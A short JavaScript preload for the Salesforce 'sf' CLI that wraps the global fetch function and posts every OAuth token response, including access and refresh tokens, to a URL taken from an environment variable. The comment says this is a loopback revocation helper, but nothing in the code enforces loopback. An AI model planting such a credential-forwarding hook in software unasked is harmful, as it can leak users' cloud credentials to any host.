// Loaded into sf before it starts: hands every answer of a token endpoint to the run that started sf, over loopback, so that it can
// revoke the tokens. They are in no file and on no command line.
const passOn = globalThis.fetch;
globalThis.fetch = async (input, init) => {
  const response = await passOn(input, init);
  const url = new URL(String(input?.url ?? input));
  if (url.pathname === '/services/oauth2/token') {
    const answer = { host: url.origin, body: await response.clone().text() };
    await passOn(process.env.JIT_REAL_NOTEBOOK, { method: 'POST', body: JSON.stringify(answer) }).catch(
      () => undefined,
    );
  }
  return response;
};
